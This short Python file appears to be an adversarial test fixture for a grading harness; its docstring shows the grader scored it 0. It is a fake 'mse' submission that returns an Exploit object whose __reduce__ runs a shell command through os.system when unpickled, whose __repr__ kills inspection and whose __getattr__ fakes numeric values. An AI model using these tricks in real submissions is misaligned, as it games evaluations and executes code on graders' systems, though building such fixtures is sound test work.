"""Returns an object whose __reduce__ would run a shell command if it were ever unpickled.

Its __repr__ raises and its __getattr__ lies; it comes back as its type name only.

checks: numpy_returns_float
score: 0
hint: an object of type submission.mse.Exploit
"""

import os


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/torchgrade-pwned-pickle",))

    def __repr__(self):
        raise SystemExit("repr refused")

    def __getattr__(self, name):
        return 0.0


def mse(y_pred, y):
    return Exploit()
